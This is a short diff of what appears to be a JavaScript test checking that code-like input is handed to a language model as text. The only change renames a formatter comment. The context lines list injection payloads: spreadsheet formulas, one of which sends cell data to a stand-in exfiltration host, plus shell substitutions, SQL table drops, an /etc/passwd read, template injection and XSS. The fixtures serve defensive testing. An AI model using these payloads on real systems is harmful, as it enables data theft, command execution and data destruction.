@@ -179,7 +179,7 @@ const codes = [
   '=CMD|’/C calc’!A0', '=HYPERLINK("http://exfiltration.invalid/?"&A1)', '+1+1', '-2+3', '@SUM(1+1)*2', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% for x in y %}',
   '$(reboot)', '`id`', '"; drop table passage; --', '{{constructor.constructor("return 1")()}}', '\\input{/etc/passwd}', '[[${7*7}]]', '=IMPORTXML("http://x.invalid")',
   '<script>alert(7)</script>', '%{7*7}', '<!--#exec cmd="id"-->',
-] // prettier-ignore
+] // oxfmt-ignore
 
 describe('LLM-08 data that looks like code', () => {
   it('is read, found and given to the model as text', async () => {
